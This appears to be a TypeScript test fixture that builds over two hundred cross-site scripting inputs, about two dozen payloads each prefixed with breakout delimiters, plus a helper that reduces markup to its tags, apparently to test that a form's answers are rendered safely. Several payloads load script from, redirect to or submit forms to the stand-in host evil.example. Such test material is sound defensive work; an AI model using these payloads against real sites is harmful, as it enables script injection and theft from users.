/** Texts of an attacker who wants a form's answers to run where they are shown: each trick after each delimiter that could break out. */
const tricks = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href=javascript:alert(1)>x</a>",
  "<math><mtext></mtext><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
  "<form action=//evil.example><button>x</button></form>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<base href=//evil.example>",
  "<style>@import url(//evil.example/x.css);</style>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<!--><script>alert(1)</script-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "javascript:alert(1)",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "\u2028<script>alert(1)</script>\u2029",
  "\u0000<script>alert(1)</script>",
  "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
];
const ends = ["", '"', "'", '">', "'>", "</title>", "</textarea>", "</dd>", "</script>", "-->"];

/** More than two hundred texts. */
export const hostileTexts: readonly string[] = tricks.flatMap((trick) => ends.map((end) => `${end}${trick}`));

/** Returns a document's tags without text and attribute values. */
export function skeletonOf(markup: string): string[] {
  return Array.from(markup.replaceAll(/="[^"]*"/g, "=").matchAll(/<[!/?a-z][^>]*>/gi), ([tag]) => tag);
}
